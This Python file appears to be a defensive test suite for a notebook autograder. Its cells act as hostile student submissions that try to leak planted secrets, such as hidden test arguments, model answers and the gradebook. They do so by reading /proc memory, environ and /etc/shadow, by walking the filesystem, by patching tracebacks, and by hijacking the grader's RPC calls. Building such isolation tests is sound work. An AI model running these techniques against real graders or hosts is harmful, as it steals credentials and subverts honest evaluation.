"""Attacks on secrets: hidden tests, the model answer, other students, the gradebook, the environment.

Read as cells like verdict.py. Here all other tasks hold right answers. Every secret contains `token-`
and six digits, so that a search knows one when it sees one; what an attack finds it prints, raises or
sends in whatever way may end up in what the student gets back.
"""

# ruff: noqa

# %% prelude
import gc, glob, os, re, sys, time

SECRET = re.compile(rb"tok" rb"en-[0-9]{6}")


def look(data, where=""):
    data = data.encode("utf-8", "replace") if isinstance(data, str) else data
    for hit in SECRET.findall(data):
        print("FOUND", hit.decode(), where)


def read(path, size=1 << 22):
    try:
        with open(path, "rb") as file:
            look(file.read(size), path)
    except (OSError, ValueError):
        pass


# %% history [story]
"""In, Out and the history of the shell."""
look(repr(In) + repr(Out) + repr(get_ipython().user_ns))


def story():
    look(repr(In))
    return "the end"


# %% frames_and_memory [story]
"""All frames, all objects, all modules' variables, at the time of a call."""


def story():
    gc.unfreeze()
    frame = sys._getframe()
    while frame := frame.f_back:
        look(repr(list(frame.f_locals.values())) + repr(frame.f_code.co_consts), frame.f_code.co_name)
    for thing in gc.get_objects():
        if type(thing) in (str, bytes, bytearray):
            look(thing)
        elif type(thing) in (dict, list, tuple) and len(thing) < 10_000:
            for item in thing.values() if type(thing) is dict else thing:
                if type(item) in (str, bytes, bytearray):
                    look(item)
    return "the end"


story()

# %% own_memory [story]
"""The bytes of the whole process, template's included."""
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            if "rw-p" in line and not "/" in line:
                low, high = (int(n, 16) for n in line.split()[0].split("-"))
                memory.seek(low)
                look(memory.read(min(high - low, 64 << 20)), "memory")
except OSError as error:
    print(error)

# %% files [story]
"""Every file within reach that may hold something."""
end = time.time() + 2
for top in ["/", "/partwise"]:
    for folder, folders, files in os.walk(top):
        if (
            folder.startswith(("/usr", "/proc", "/dev"))
            or "site-packages" in folder
            or "/lib/python3" in folder
        ):
            folders.clear()
            continue
        for name in files:
            if (
                name.endswith((".ipynb", ".db", ".json", ".knowledge", ".txt", ".log", "answers.py"))
                and "/lectures/" not in folder
            ):
                read(os.path.join(folder, name))
        if time.time() > end:
            break

# %% known_places [story]
"""Places where graders keep things, and what the test was told: see KEPT."""
for path in [
    p
    for pattern in [
        "/tmp/**",
        "/root/.cache/partwise/*",
        os.path.expanduser("~/.cache/**"),
        "/srv/**",
        "/var/**",
        "/home/**",
        "/root/*",
        "../**",
        "../../**",
        "../../../source/*/*.ipynb",
        "../../../submitted/*/*/*.ipynb",
        "../../../gradebook.db",
        "/tmp/*/*/*",
        "/partwise/../**",
    ]
    for p in glob.iglob(pattern)
]:
    read(path)
for folder in ("/work", "/root", "/srv", "/home"):
    try:
        print("seen", folder, os.listdir(folder)[:3])
    except OSError:
        pass

# %% processes [story]
"""/proc of every process: environment, command line, open files, memory, root."""
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["1", "2", "self", str(os.getppid())]:
    for name in ("environ", "cmdline", "maps", "root/etc/shadow", "cwd"):
        read(f"/proc/{pid}/{name}")
    for link in (
        glob.glob(f"/proc/{pid}/fd/*")
        + glob.glob(f"/proc/{pid}/root/tmp/*")
        + glob.glob(f"/proc/{pid}/cwd/*")
    ):
        if not os.path.realpath(link).startswith(("/dev/null", "/proc")) and os.path.isfile(link):
            read(link)
look(repr(os.environ))

# %% descriptors [story]
"""Whatever is open."""
for number in range(3, 256):
    try:
        print("open", number, os.readlink(f"/proc/self/fd/{number}"))
        if not "socket" in os.readlink(f"/proc/self/fd/{number}"):
            look(os.pread(number, 1 << 20, 0))
    except OSError:
        pass

# %% prints_what_it_is_given [add]
"""A function that prints its arguments: among them those of hidden tests."""


def add(a, b):
    print("GIVEN", a, b)
    return a + b


# %% raises_what_it_is_given [add]
"""An exception that carries the hidden arguments."""


def add(a, b):
    if isinstance(a, str):
        raise ValueError(f"given {a!r}")
    return a + b


# %% traceback_patched [add]
"""Frames that the library of tracebacks is made to tell: names, files and lines that hold the arguments."""
import traceback


def add(a, b):
    if isinstance(a, str):
        frames = [
            traceback.FrameSummary(f"<ipython-input-student-{n}>", ord(a[-1]), a, line=a) for n in range(9)
        ]
        traceback.extract_tb = lambda *_, **__: traceback.StackSummary.from_list(frames)
        traceback.format_exception = traceback.format_tb = lambda *_, **__: [a]
        raise ValueError
    return a + b


# %% class_named_after_it [add]
"""The same in the name of an exception's class, of an object's class, and in a line of source."""
import linecache


def add(a, b):
    if isinstance(a, str):
        name = re.sub(r"\W", "_", a)
        linecache.cache["<ipython-input-student-1>"] = (1, None, [a + "\n"] * 99, "<ipython-input-student-1>")
        raise type("given_" + a, (Exception,), {})(a)
    return a + b


# %% object_named_after_it [add]
"""The hidden argument in the name of an object's class."""


def add(a, b):
    return type("given_" + a, (), {})() if isinstance(a, str) else a + b


# %% told_by_a_later_cell [add]
"""Keeps the hidden arguments for a later cell to print, and for a visible test to show."""
kept = []


def add(a, b):
    kept.append(a)
    return a + b


# %% told_by_a_later_cell [story]
print(kept)


def story():
    return f"the end of {kept}"


# %% told_by_a_later_error [add]
"""Keeps the hidden arguments for an exception that a later visible test shows."""
kept = []


def add(a, b):
    kept.append(a)
    return a + b


# %% told_by_a_later_error [story]
def story():
    raise ValueError(str(kept))


# %% printed_in_a_later_test [add]
kept = []


def add(a, b):
    """Keeps the hidden arguments and prints them when a visible test calls."""
    kept.append(a)
    return a + b


# %% printed_in_a_later_test [story]
def story():
    print(kept)
    return "the end?"


# %% told_by_the_tests_own_error [add]
kept = []


def add(a, b):
    """Keeps the hidden arguments; a visible test trips over them and quotes what it got."""
    kept.append(a)
    return a + b


# %% told_by_the_tests_own_error [words]
def words(text):
    return str(kept)


# %% told_by_the_authors_message [add]
kept = []


def add(a, b):
    """Keeps the hidden arguments; the author's message of a visible assert quotes what it got."""
    kept.append(a)
    return a + b


# %% told_by_the_authors_message [words]
calls = iter([1, str(kept)])


def words(text):
    return next(calls, None) or str(kept)


# %% told_by_a_picture [add]
kept = []


def add(a, b):
    """Keeps the hidden arguments; a later cell displays them as text, HTML and an error."""
    kept.append(a)
    return a + b


# %% told_by_a_picture [story]
from IPython.display import HTML, display

display(HTML(f"<b>{kept}</b>"), {"text/plain": str(kept)})
raise type(f"E{kept}", (Exception,), {})(str(kept))

# %% refusals_and_wrong_messages [add]
"""Hidden arguments inside the reasons for which the wire refuses."""
import struct, msgpack


def find_player():
    frame = sys._getframe()
    while type(frame.f_locals.get("self")).__name__ != "Player":
        frame = frame.f_back
    return frame.f_locals["self"]


player = find_player()
ordinary = player.do_call


def call(decoder, target, method, args, *rest):
    a, b = decoder.part(args)
    if isinstance(a, str):
        header = msgpack.packb([[], ["refuse", a]])
        return struct.pack("<I", len(header)) + header
    return ordinary(decoder, target, method, args, *rest)


player.do_call = call

# %% unknown_tag [add]
"""A reply with the hidden argument as a tag that the wire does not know, and names in its complaint."""
import struct, msgpack


def find_player():
    frame = sys._getframe()
    while type(frame.f_locals.get("self")).__name__ != "Player":
        frame = frame.f_back
    return frame.f_locals["self"]


player = find_player()
ordinary = player.do_call


def call(decoder, target, method, args, *rest):
    a, b = decoder.part(args)
    if isinstance(a, str):
        header = msgpack.packb([[], ["ok", None, ["list"], [a], ["list"], ["dict"]]])
        return struct.pack("<I", len(header)) + header
    return ordinary(decoder, target, method, args, *rest)


player.do_call = call

# %% file_as_source [summed]
"""Says that a function's text stands in the source notebook, which the judge can read."""


def summed(values):
    return 0


path = "/KEPT/castle.ipynb"
summed.__code__ = summed.__code__.replace(co_filename=path, co_firstlineno=1)

# %% judges_functions [apply_all]
"""Looks into what the judge hands over, by attribute, closure and error."""


def apply_all(function, values):
    for name in (
        "__globals__",
        "__code__",
        "__closure__",
        "f_globals",
        "__self__",
        "seen",
        "__dict__",
        "gi_frame",
    ):
        try:
            look(repr(getattr(function, name)))
        except Exception as error:
            look(repr(error))
    try:
        function()
    except Exception as error:
        look(repr(error) + repr(error.__context__))
    return [function(value) for value in values]
